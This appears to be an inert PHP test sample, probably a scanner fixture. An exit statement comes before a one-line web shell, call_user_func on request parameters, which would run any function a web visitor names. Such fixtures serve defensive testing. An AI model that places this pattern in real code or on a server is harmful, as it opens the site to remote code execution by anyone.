<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

call_user_func($_GET['cb'], $_GET['arg']);
